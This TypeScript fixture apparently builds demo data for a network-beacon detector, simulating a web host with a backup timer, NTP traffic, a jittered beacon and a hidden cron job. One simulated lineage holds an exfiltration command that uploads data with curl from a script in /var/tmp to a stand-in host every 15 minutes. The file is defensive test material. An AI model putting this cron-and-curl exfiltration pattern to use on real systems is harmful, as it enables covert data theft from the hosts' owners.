/**
 * A host as the agent's store would know it after twelve days, made up: a backup that is known, a cron
 * job that nobody wrote down, a beacon with jitter, a timer, and hours in which the agent was blind.
 * The detector and the risk are the real ones.
 */
import { createAnalyst } from '../../agent/analyst.ts'
import { saveStatus } from '../../agent/control/stored-status.ts'
import { seriesIdentity } from '../../agent/correlate/series-key.ts'
import type { LineageProcess } from '../../agent/correlate/transfer.ts'
import { textOf } from '../../agent/correlate/transfer-text.ts'
import { destinations } from '../../agent/destinations.ts'
import { compileRiskOptions } from '../../agent/detect/risk.ts'
import type { Schedule, User } from '../../platform/event.ts'
import { openStore } from '../../storage/database.ts'
import type { Observation } from '../../storage/series.ts'
import { type Random, random } from '../bench/families/random.ts'
import { host, rawOptions } from './findings.ts'
import { aStatus } from './status.ts'

const MINUTE = 60_000
const HOUR = 60 * MINUTE
const DAY = 24 * HOUR
/** 2026-11-24 18:00 UTC, a Tuesday. */
export const DEMO_NOW_MS = Date.UTC(2026, 10, 24, 18)
const DAYS = 12
const START = DEMO_NOW_MS - DAYS * DAY
const GAPS = [
  [DEMO_NOW_MS - 5 * DAY - 7 * HOUR, 5 * HOUR],
  [DEMO_NOW_MS - 2 * DAY - 1 * HOUR, 40 * MINUTE],
] as const

interface DemoSeries {
  readonly actor: string
  readonly user: User
  readonly domain?: string
  readonly ip: string
  readonly port: number
  readonly programs: readonly (readonly string[])[]
  readonly schedule?: Schedule
  readonly times: (chance: Random) => readonly number[]
  readonly bytes: (chance: Random, index: number) => number | undefined
}

const root: User = { id: '0', name: 'root' }
const web: User = { id: '33', name: 'www-data' }
const grid = (everyMs: number, offsetMs: number, lateMs: number) => (chance: Random) =>
  Array.from({ length: Math.floor((DAYS * DAY) / everyMs) }, (_, i) =>
    Math.round(START + offsetMs + i * everyMs + chance.between(0, lateMs)),
  )
const sleeping = (everyMs: number, jitter: number) => (chance: Random) => {
  const times: number[] = []
  for (let at = START; at < DEMO_NOW_MS; at += everyMs * chance.between(1 - jitter, 1 + jitter)) {
    times.push(Math.round(at))
  }
  return times
}

const SERIES: readonly DemoSeries[] = [
  {
    ...{ actor: '/var/tmp/.cache/sync.sh', user: web, ip: '203.0.113.77', port: 443 },
    domain: 'cdn-sync.example',
    programs: [
      ['curl', '-s', '--data-binary', '@-', 'https://cdn-sync.example/u'],
      ['/bin/bash', '/var/tmp/.cache/sync.sh'],
      ['/bin/sh', '-c', '/var/tmp/.cache/sync.sh'],
      ['/usr/sbin/cron', '-f'],
    ],
    schedule: {
      ...{ id: 'cron:demo-1', scheduler: 'cron', trigger: '*/15 * * * *' },
      ...{ command: '/var/tmp/.cache/sync.sh', user: web, line: 4 },
      file: '/var/spool/cron/crontabs/www-data',
      timing: { kind: 'calendar', patterns: ['0 */15 * * * *'] },
    },
    times: grid(15 * MINUTE, 1_200, 2_500),
    bytes: (chance, i) => Math.round(180_000 + i * 160 + chance.normal() * 9_000),
  },
  {
    ...{ actor: '/usr/lib/update-notifier/notify', user: root, ip: '198.51.100.23', port: 8443 },
    programs: [['/usr/lib/update-notifier/notify', '--daemon'], ['/sbin/init']],
    times: sleeping(11 * MINUTE, 0.3),
    bytes: (chance) => Math.round(chance.between(300, 900)),
  },
  {
    ...{ actor: '/usr/bin/restic', user: root, ip: '10.20.0.9', port: 8000 },
    domain: 'backup.example',
    programs: [['/usr/bin/restic', 'backup', '/srv'], ['/sbin/init']],
    schedule: {
      ...{ id: 'backup.timer', scheduler: 'systemd', trigger: 'OnCalendar=*-*-* 02:30:00' },
      ...{ command: '/usr/bin/restic backup /srv', unit: 'backup.service', user: root },
      file: '/etc/systemd/system/backup.timer',
      timing: { kind: 'calendar', patterns: ['0 30 2 * * *'], randomDelayMs: 5 * MINUTE },
    },
    times: grid(DAY, 8.5 * HOUR, 4 * MINUTE),
    bytes: (chance) => Math.round(chance.between(4e8, 9e8)),
  },
  {
    ...{ actor: '/usr/sbin/chronyd', user: { id: '112', name: '_chrony' }, ip: '192.0.2.123' },
    ...{ port: 123, programs: [['/usr/sbin/chronyd'], ['/sbin/init']] },
    times: grid(1_024_000, 9_000, 900),
    bytes: () => 48,
  },
]

/** Fills a folder's store with it. */
export function fillDemoStore(folder: string): void {
  const store = openStore({ folder })
  const chance = random(7)
  const analyst = createAnalyst({
    ...{ store, destinations: destinations(), schedules: () => [], detect: {}, learnUntilMs: 0 },
    risk: compileRiskOptions({
      ...rawOptions,
      destIpAllowlist: ['backup.example'],
      scriptPathRegex: ['^/(?:tmp|var/tmp|dev/shm)/'],
    }),
    alert: { maxPerHour: 20, updateIntervalMs: HOUR, endAfterPeriods: 6 },
    host: { ...host, name: 'web1', hostname: 'web1' },
    ...{ platform: 'linux', timeZone: 'UTC' },
  })
  const gaps = GAPS.map(([fromMs, ms]) => ({
    fromMs,
    toMs: fromMs + ms,
    reason: 'linux.audit: restart',
  }))
  store.record({ gaps })
  saveStatus(store, {
    ...aStatus,
    host: { name: 'web1', os: 'Debian GNU/Linux 12' },
    collectors: aStatus.collectors.slice(0, 1).map((collector) => ({
      ...collector,
      counters: { ...collector.counters, missed: 412 },
    })),
  })
  for (const one of SERIES) {
    const { actor, user, domain, ip, port, programs, schedule } = one
    const identity = seriesIdentity({
      ...{
        actor,
        destinationIp: ip,
        destinationPort: port,
        transport: port === 123 ? 'udp' : 'tcp',
      },
      ...(user.id !== undefined && { userId: user.id }),
      ...(domain !== undefined && { destinationDomain: domain }),
    })
    const isSeen = (atMs: number): boolean =>
      !gaps.some(({ fromMs, toMs }) => atMs >= fromMs && atMs < toMs)
    const times = one.times(chance).filter((atMs) => atMs < DEMO_NOW_MS && isSeen(atMs))
    const observations = times.map((atMs, i): Observation => {
      const sentBytes = one.bytes(chance, i)
      return {
        ...{ atMs, connections: 1 },
        ...(sentBytes !== undefined && {
          sentBytes,
          receivedBytes: Math.round(sentBytes / 20) + 90,
        }),
      }
    })
    const lineage = programs.map((args, i): LineageProcess => {
      const executable = args[0] ?? ''
      return {
        entityId: `${identity.key}${i}`,
        pid: i === programs.length - 1 ? 1 : 4_400 - i,
        executable,
        args,
      }
    })
    const lastMs = times.at(-1) ?? START
    const text = textOf({
      ...{ seriesKey: identity.key, startMs: lastMs, endMs: lastMs, connections: 1, actor, user },
      ...{ sourceIp: '10.20.0.5', destination: { ip, port }, lineage },
      ...(domain !== undefined && { domain }),
      ...(schedule !== undefined && { schedule }),
      transport: port === 123 ? 'udp' : 'tcp',
      datasets: ['linux.audit', 'linux.conntrack'],
    })
    store.record({
      observations: observations.map((observation) => ({ identity, observation, ...text })),
    })
    // Twice: what nothing vouches for must look regular a second time.
    for (const _ of [1, 2]) {
      const analysis = analyst.analyze(identity.key, DEMO_NOW_MS)
      if (analysis?.finding !== undefined) {
        store.record({ findings: [analysis.finding], alerts: analysis.alerts })
      }
    }
  }
  store.close()
}
